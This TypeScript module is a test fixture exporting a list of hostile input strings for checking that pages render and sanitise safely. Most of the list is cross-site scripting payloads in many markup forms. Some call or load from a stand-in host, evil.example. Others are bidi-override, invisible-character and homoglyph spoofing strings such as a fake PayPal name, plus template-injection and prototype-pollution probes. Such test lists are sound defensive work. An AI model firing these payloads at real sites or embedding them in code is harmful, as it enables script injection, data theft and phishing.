/** Texts that have broken pages before: markup in every dress, directions turned round, letters that are not seen or look alike. */
const calls = ['alert(1)', 'window.hacked=1', "fetch('https://evil.example')"];

const markup = calls.flatMap((call) => [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<a href="javascript:${call}">x</a>`,
  `"><img src=x onerror=${call}>`,
  `'><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<details open ontoggle=${call}>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<object data="https://evil.example"></object>`,
  `<embed src="https://evil.example">`,
  `<form action="https://evil.example"><button>x</button></form>`,
  `<video src="https://evil.example/v" onerror=${call}></video>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `<!--<img src="--><img src=x onerror=${call}>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
]);

const turned = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c].map(
  (code) => `Safe${String.fromCodePoint(code)}ytisrevinU`,
);

const unseen = [0x200b, 0x2060, 0xfeff, 0x00ad, 0x180e, 0xe0041, 0x200d, 0x200c].map(
  (code) => `Uni${String.fromCodePoint(code)}versity`,
);

const lookAlikes = ['Univеrsity', 'Αthens University', 'Oхford', 'paypаl.example', 'Раураl'];

const strange = [
  'a\0b',
  'line\nfeed',
  '\ud800',
  '<?xml version="1.0"?>',
  ']]>',
  '&lt;script&gt;',
  '%3Cscript%3E',
  'ß'.repeat(5000),
  'x'.repeat(20_000),
  `z${'\u0301'.repeat(300)}`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '﷽',
  '__proto__',
  'constructor',
  'und',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '-0',
];

export const hostileTexts: readonly string[] = [...markup, ...turned, ...unseen, ...lookAlikes, ...strange];
